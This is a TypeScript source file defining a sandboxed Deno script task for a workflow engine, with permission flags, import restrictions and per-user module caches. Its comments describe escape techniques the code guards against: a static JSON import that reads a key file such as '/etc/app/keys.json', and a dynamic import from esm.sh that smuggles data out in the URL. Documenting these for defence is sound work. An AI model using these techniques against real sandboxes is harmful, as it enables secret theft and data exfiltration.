import { defineTask, namespaceFileKey, toStorageUri, z } from "@ferry/sdk";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { runProcess } from "./run-process.js";
import { commonProperties, CONTAINER_IMAGE_NEEDS_RUNNER, containerImageNeedsProcessRunner, noteUnusedContainerImage, FERRY_DIR, inside, placeInputFiles, placeNamespaceFiles, scriptEnv, uploadOutputFiles } from "./workspace.js";

/** the `deno` binary of the npm package `deno` (DENO_BIN overrides) */
function denoBinary(): string {
  if (process.env.DENO_BIN) return process.env.DENO_BIN;
  return join(dirname(createRequire(import.meta.url).resolve("deno/package.json")), "deno");
}

/** downloaded modules and compiled code, kept for this worker's next scripts */
const DENO_DIR = join(tmpdir(), "ferry-deno-cache");

/**
 * calls the script's default export with the inputs and writes what it returns.
 * Deno loads the main module's static graph (static imports, and `import("…")` with a literal)
 * before the run and without checking --allow-read: `import x from "/etc/app/keys.json" with
 * { type: "json" }` in a script run as the main module returns the whole file. An `import()` of
 * a specifier computed at run time is checked, and so is everything that module imports, so the
 * runner imports the script that way and must itself import nothing.
 */
const RUNNER = `const script = new URL("../main.ts", import.meta.url).href;
const { default: main } = await import(script);
if (typeof main !== "function") throw new Error("script.Deno: the script must \`export default function main(args)\`");
const args = JSON.parse(await Deno.readTextFile(new URL("./inputs.json", import.meta.url)));
const result = await main(args);
await Deno.writeTextFile(new URL("./result.json", import.meta.url), JSON.stringify(result === undefined ? null : result));
`;

const hostList = z.array(z.string().regex(/^[A-Za-z0-9.\-:[\]]+$/, "a host name, with an optional :port")).default([]);

export const denoTask = defineTask({
  kind: "runnable",
  type: "script.Deno",
  title: "Deno script (sandboxed)",
  description:
    "Runs TypeScript in Deno's permission sandbox: `export default function main(args)` (sync or async), inline in `script` or from the " +
    "namespace's files (`namespaceFile`), receives the rendered `inputs`, and " +
    "what it returns becomes the task's outputs. The script may read and write its private working folder and nothing else, unless " +
    "`allowNet` (hosts), `allowEnv` (variable names), `allowRead`/`allowWrite` (paths inside the folder) say so. " +
    "It imports local modules only, from the folders it may read (a module, JSON or text file elsewhere on disk is refused like any other read): remote imports (`https:` URLs, `jsr:`, static or dynamic) are refused unless `allowImport` lists their hosts " +
    "(host with an optional :port, as in `allowNet`; Deno's own default list of CDNs is never used), and `npm:` specifiers are always refused, " +
    "so that an import cannot carry data out of the sandbox.",
  properties: z.strictObject({
    script: z.string().min(1).optional(),
    /** the script from the flow's namespace files instead (`scripts/main.ts`) */
    namespaceFile: z.string().min(1).optional(),
    inputs: z.record(z.string(), z.unknown()).default({}),
    allowNet: hostList,
    /** hosts remote modules may be imported from (`--allow-import`); empty: no remote imports at all */
    allowImport: hostList,
    allowEnv: z.array(z.string().regex(/^[A-Za-z_][A-Za-z0-9_]*$/, "an environment variable name")).default([]),
    allowRead: z.array(z.string()).default([]),
    allowWrite: z.array(z.string()).default([]),
    ...commonProperties,
  })
    .refine((p) => Boolean(p.script) !== Boolean(p.namespaceFile), { message: "give either script (inline) or namespaceFile (a path in the namespace's files), not both" })
    .superRefine(containerImageNeedsProcessRunner).meta(CONTAINER_IMAGE_NEEDS_RUNNER),
  examples: [
    {
      title: "Fibonacci in Deno",
      flow: `id: deno
namespace: company.team
tasks:
  - id: fibo
    type: script.Deno
    inputs: { n: 10 }
    script: |
      export default function main({ n }: { n: number }) {
        const fib = (k: number): number => (k < 2 ? k : fib(k - 1) + fib(k - 2));
        return { result: fib(n) };
      }
`,
    },
  ],
  async run(ctx, props) {
    noteUnusedContainerImage(ctx, props.containerImage);
    const dir = await ctx.workingDirectory();
    await placeNamespaceFiles(ctx, dir, props.namespaceFiles);
    await placeInputFiles(ctx, dir, props.inputFiles);
    await mkdir(join(dir, FERRY_DIR));
    const script = props.script ?? (await ctx.getFile(toStorageUri(namespaceFileKey(ctx.execution.namespace, props.namespaceFile!))));
    await writeFile(join(dir, "main.ts"), script);
    await writeFile(join(dir, FERRY_DIR, "run.ts"), RUNNER);
    await writeFile(join(dir, FERRY_DIR, "inputs.json"), JSON.stringify(props.inputs));
    const read = [dir, ...props.allowRead.map((p) => inside(dir, p, "allowRead path"))];
    const write = [dir, ...props.allowWrite.map((p) => inside(dir, p, "allowWrite path"))];
    const args = ["run", "--no-prompt", "--no-config", "--no-lock", `--allow-read=${read.join(",")}`, `--allow-write=${write.join(",")}`];
    // Deno's default import allow-list (esm.sh, jsr.io, deno.land…) is reached even without
    // --allow-net: an `import("https://esm.sh/x-" + data)` would carry data out. npm: fetches
    // from the registry the same way, and is refused whatever allowImport says.
    args.push("--no-npm", ...(props.allowImport.length ? [`--allow-import=${props.allowImport.join(",")}`] : ["--no-remote"]));
    if (props.allowNet.length) args.push(`--allow-net=${props.allowNet.join(",")}`);
    if (props.allowEnv.length) args.push(`--allow-env=${props.allowEnv.join(",")}`);
    args.push(join(FERRY_DIR, "run.ts"));
    // a script run as another user (worker.processUser) gets a cache of its own: a shared one would
    // let one task's processes plant modules or compiled code that another task then runs
    const denoDir = ctx.processUser ? join(dir, FERRY_DIR, "deno-cache") : DENO_DIR;
    const result = await runProcess(ctx, { command: denoBinary(), args, cwd: dir, env: scriptEnv(props.env, { DENO_DIR: denoDir, NO_COLOR: "1" }) });
    const returned = JSON.parse(await readFile(join(dir, FERRY_DIR, "result.json"), "utf8")) as unknown;
    const outputs = returned !== null && typeof returned === "object" && !Array.isArray(returned) ? (returned as Record<string, unknown>) : { value: returned };
    return {
      ...outputs,
      ...(Object.keys(result.vars).length ? { vars: result.vars } : {}),
      ...(props.outputFiles.length ? { outputFiles: await uploadOutputFiles(ctx, dir, props.outputFiles) } : {}),
    };
  },
});
